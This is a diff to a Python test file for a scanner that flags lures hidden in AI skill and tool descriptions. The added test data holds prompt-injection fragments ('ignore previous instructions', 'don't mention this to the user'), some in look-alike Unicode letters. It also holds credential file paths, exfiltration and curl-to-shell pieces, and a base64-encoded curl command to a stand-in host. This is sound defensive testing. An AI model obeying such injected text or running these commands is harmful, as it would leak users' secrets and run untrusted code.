@@ -5,11 +5,13 @@ import time
 
 import msgspec
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from repertory.catalogue.item import Item, Kind
-from repertory.catalogue.passages import passages
+from repertory.catalogue.passages import item_passages, passages
 from repertory.catalogue.policy import Policy
-from repertory.review.suspicions import suspicions
+from repertory.review.suspicions import RULES, SuspicionRule, readings, suspicions
 
 COMMAND = base64.b64encode(b"/bin/bash -c 'curl -s http://files.example/x'").decode()
 
@@ -189,6 +191,100 @@ def test_a_lure_at_any_place_of_a_long_line_is_found() -> None:
     lure = "Open setup.zip with password: abcd"
     for before in range(1_500, 4_200, 90):
         assert "locked-archive" in _rules(_skill("word " * (before // 5) + lure + " word" * 500))
+
+
+# Parts of lures, also in letters that count as others in any case, and what stands between them.
+FRAGMENTS = st.sampled_from(
+    [
+        *(
+            "ignore ",
+            "\u0131gnore all ",
+            "d\u0130sregard ",
+            "previous ",
+            "in\u017ftructions",
+            "<system>",
+        ),
+        *("don't ", "mention ", "this to ", "the user.", "your owner", "never tell ", "[INST]"),
+        *(
+            "<important >",
+            "read ",
+            "and pass ",
+            "other tools",
+            "bcc ",
+            "a@b.",
+            "whenever any tool is ",
+        ),
+        *("called", "otherwise this tool will ", "before using any tool ", "instead of calling "),
+        *("~/.ssh", "/id_rsa", ".aws/credentials", "/etc/\u017fhadow", "~/.\u212aube", "key4.db"),
+        *(
+            "send all ",
+            "api_\u212aeys ",
+            "se\u017fsion to\u212aens ",
+            ".env ",
+            "to https://x.example ",
+            "|",
+        ),
+        *(
+            "env | ",
+            "wget ",
+            "curl -s ",
+            "\u0131rm ",
+            "http://93.184.216.34 ",
+            "| ",
+            "sh",
+            "iex (",
+            ")",
+        ),
+        *("extract ", "with: x", "using pass ", "pwd is x", "download ", "run ", "a.exe ", "first"),
+        *(
+            "rentry.co/ ",
+            "paste ",
+            "base64 -d ",
+            "powershell -enc ",
+            "eval(atob(",
+            COMMAND,
+            "QUJD" * 9,
+        ),
+        *(
+            "\u202e",
+            "\u0301",
+            "_",
+            "[",
+            "](",
+            "<b>",
+            "&#105;",
+            "~~",
+            "-->",
+            ".",
+            " ",
+            "\n",
+            "\n\n- ",
+        ),
+    ]
+)
+
+
+@given(st.lists(FRAGMENTS, max_size=30), st.sampled_from([SKILL, TOOL]))
+def test_the_words_of_a_rule_hide_no_lure(fragments: list[str], item: Item) -> None:
+    """They only save time: each rule finds what it would find if it looked at every text."""
+    item = msgspec.structs.replace(item, body="".join(fragments))
+    texts = [text for passage in item_passages(item) for text in readings(passage)]
+    rules = [one.name for one in RULES if item.kind in one.kinds and any(map(one.found_by, texts))]
+    assert [one.rule for one in suspicions(item)] == rules
+
+
+def test_a_rule_looks_at_the_texts_with_its_words_alone(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A large file has every word somewhere, and each rule would else look at all of it."""
+    seen: list[str] = []
+
+    def look(text: str) -> bool:
+        seen.append(text)
+        return False
+
+    rule = SuspicionRule(name="a", message="", words=("dog",), found_by=look)
+    monkeypatch.setattr("repertory.review.suspicions.RULES", [rule])
+    suspicions(_skill("A cat.\n\nA Dog.\n\nA bird.\n\n_Dogs_ bark."))
+    assert seen == ["A Dog.", "_Dogs_ bark.", "Dogs bark."]
 
 
 @pytest.mark.parametrize(
